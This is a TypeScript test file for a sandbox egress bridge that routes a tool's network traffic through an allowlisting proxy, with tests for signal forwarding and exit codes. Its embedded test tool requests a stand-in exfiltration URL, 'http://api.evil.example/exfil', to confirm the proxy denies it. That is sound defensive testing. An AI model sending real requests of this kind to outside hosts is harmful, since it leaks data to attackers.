/**
 * The in-sandbox bridge, run on the host (no sandbox needed): it exposes the
 * proxy socket on 127.0.0.1, gives the tool the proxy variables, forwards
 * signals, and reports the tool's exit status as a shell would.
 */
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import { bridgeScriptPath } from "../../../src/sandbox/egress/index.ts";
import { tempDir } from "../../helpers/tmp.ts";
import { httpServer, startProxy, tcpServer } from "./helpers.ts";

interface Run {
  readonly code: number | null;
  readonly stdout: string;
  readonly stderr: string;
}

function runBridge(args: readonly string[], options: { onStdout?: (text: string, kill: (s: NodeJS.Signals) => void) => void; timeoutMs?: number } = {}): Promise<Run> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [bridgeScriptPath(), ...args], { stdio: ["ignore", "pipe", "pipe"] });
    let stdout = "";
    let stderr = "";
    const timer = setTimeout(() => child.kill("SIGKILL"), options.timeoutMs ?? 20_000);
    child.stdout.on("data", (c: Buffer) => {
      stdout += c.toString();
      options.onStdout?.(stdout, (s) => child.kill(s));
    });
    child.stderr.on("data", (c: Buffer) => {
      stderr += c.toString();
    });
    child.on("error", reject);
    child.on("close", (code) => {
      clearTimeout(timer);
      resolve({ code, stdout, stderr });
    });
  });
}

// The "tool": plain node:http and node:net code that finds the proxy through the environment only.
const TOOL = String.raw`
const http = require("node:http");
const net = require("node:net");
const proxy = new URL(process.env.HTTP_PROXY);
function get(url) {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: proxy.hostname, port: Number(proxy.port), path: url, headers: { host: new URL(url).host } }, (res) => {
      let body = "";
      res.on("data", (c) => (body += c));
      res.on("end", () => resolve({ status: res.statusCode, denied: res.headers["x-aegisclaw-denied"] ?? null, body }));
    });
    req.on("error", reject);
    req.end();
  });
}
function tunnel(authority, payload) {
  return new Promise((resolve, reject) => {
    const s = net.connect({ host: proxy.hostname, port: Number(proxy.port) });
    let buf = "";
    let open = false;
    s.on("data", (c) => {
      buf += c.toString("latin1");
      if (!open && buf.includes("\r\n\r\n")) {
        open = true;
        const status = buf.slice(9, 12);
        buf = buf.slice(buf.indexOf("\r\n\r\n") + 4);
        if (status !== "200") { s.destroy(); return resolve({ status }); }
        s.end(payload);
      }
    });
    s.on("close", () => resolve({ status: "200", echoed: buf }));
    s.on("error", reject);
    s.write("CONNECT " + authority + " HTTP/1.1\r\nHost: " + authority + "\r\n\r\n");
  });
}
(async () => {
  const env = {};
  for (const k of ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy", "NO_PROXY", "no_proxy"]) env[k] = process.env[k] ?? null;
  const allowed = await get(process.env.ALLOWED_URL);
  const denied = await get("http://api.evil.example/exfil");
  const echo = await tunnel(process.env.ECHO_AUTHORITY, "ping through the tunnel");
  console.log(JSON.stringify({ env, allowed, denied, echo }));
  process.exit(7);
})().catch((e) => { console.error(e); process.exit(99); });
`;

describe("bridge", () => {
  test("bridgeScriptPath points at the bridge next to the module", () => {
    const path = bridgeScriptPath();
    assert.ok(existsSync(path));
    assert.match(path, /[/\\]sandbox[/\\]egress[/\\]bridge\.(ts|js)$/);
    // It runs where only Node and this one file are mounted: node: builtins only.
    const imports = [...readFileSync(path, "utf8").matchAll(/^import\s[^;]*?from\s+"([^"]+)"/gm)].map((m) => m[1]);
    assert.ok(imports.length > 0);
    for (const spec of imports) assert.match(spec ?? "", /^node:/, `bridge imports ${String(spec)}`);
  });

  test("a tool finds the proxy through the environment: allowed request served, denied one gets the 403 body, tunnels work, status propagates", async (t) => {
    const server = await httpServer(t);
    const echo = await tcpServer(t, { echo: true });
    const w = await startProxy(t, {
      allow: [`allowed.test:${String(server.port)}`, `echo.test:${String(echo.port)}`],
      hosts: { "allowed.test": ["127.0.0.1"], "echo.test": ["127.0.0.1"] },
      allowPrivate: ["127.0.0.1/32"],
    });
    const run = await new Promise<Run>((resolve, reject) => {
      const child = spawn(process.execPath, [bridgeScriptPath(), "--socket", w.socketPath, "--port", "0", "--", process.execPath, "-e", TOOL], {
        stdio: ["ignore", "pipe", "pipe"],
        env: { ...process.env, ALLOWED_URL: `http://allowed.test:${String(server.port)}/hello`, ECHO_AUTHORITY: `echo.test:${String(echo.port)}`, NO_PROXY: "allowed.test,*", no_proxy: "*" },
      });
      let stdout = "";
      let stderr = "";
      child.stdout.on("data", (c: Buffer) => (stdout += c.toString()));
      child.stderr.on("data", (c: Buffer) => (stderr += c.toString()));
      child.on("error", reject);
      child.on("close", (code) => {
        resolve({ code, stdout, stderr });
      });
    });
    assert.equal(run.code, 7, `the tool's exit status passes through (stderr: ${run.stderr})`);
    const out = JSON.parse(run.stdout) as { env: Record<string, string | null>; allowed: { status: number; body: string }; denied: { status: number; denied: string | null; body: string }; echo: { status: string; echoed?: string } };
    const url = out.env.HTTP_PROXY ?? "";
    assert.match(url, /^http:\/\/127\.0\.0\.1:\d+$/);
    assert.notEqual(url, "http://127.0.0.1:0", "port 0 is replaced by the port chosen");
    for (const k of ["HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"]) assert.equal(out.env[k], url, k);
    assert.equal(out.env.NO_PROXY, "", "a NO_PROXY from outside is cleared: nothing bypasses the proxy");
    assert.equal(out.env.no_proxy, "");
    assert.deepEqual(out.allowed, { status: 200, denied: null, body: "hello from /hello" });
    assert.equal(out.denied.status, 403);
    assert.equal(out.denied.denied, "1");
    assert.match(out.denied.body, /^aegisclaw egress: api\.evil\.example is not in this skill's allowlist/);
    assert.deepEqual(out.echo, { status: "200", echoed: "ping through the tunnel" });
    assert.equal(w.proxy.stats().denied, 1);
  });

  test("a tool killed by a signal gives 128 + the signal number", async (t) => {
    const w = await startProxy(t, { allow: [] });
    const run = await runBridge(["--socket", w.socketPath, "--port", "0", "--", process.execPath, "-e", "process.kill(process.pid, 'SIGKILL')"]);
    assert.equal(run.code, 128 + 9);
  });

  test("SIGTERM sent to the bridge reaches the tool", async (t) => {
    const w = await startProxy(t, { allow: [] });
    let sent = false;
    const run = await runBridge(["--socket", w.socketPath, "--", process.execPath, "-e", "process.on('SIGTERM', () => { console.log('tool got SIGTERM'); process.exit(3); }); console.log('ready'); setInterval(() => {}, 1000);"], {
      onStdout: (text, kill) => {
        if (!sent && text.includes("ready")) {
          sent = true;
          kill("SIGTERM");
        }
      },
    });
    assert.match(run.stdout, /tool got SIGTERM/);
    assert.equal(run.code, 3);
  });

  test("its own failures are 125 (usage, no socket), 127 (command not found)", async (t) => {
    const dir = tempDir(t);
    const missing = await runBridge(["--socket", join(dir, "absent.sock"), "--", "true"]);
    assert.equal(missing.code, 125);
    assert.match(missing.stderr, /aegisclaw-bridge: cannot reach the egress socket .*absent\.sock/);
    const noCommand = await runBridge(["--socket", join(dir, "absent.sock")]);
    assert.equal(noCommand.code, 125);
    assert.match(noCommand.stderr, /no command given/);
    const badPort = await runBridge(["--socket", "x", "--port", "70000", "--", "true"]);
    assert.equal(badPort.code, 125);
    const w = await startProxy(t, { allow: [] });
    const notFound = await runBridge(["--socket", w.socketPath, "--", join(dir, "no-such-tool")]);
    assert.equal(notFound.code, 127);
    assert.match(notFound.stderr, /cannot run/);
  });
});
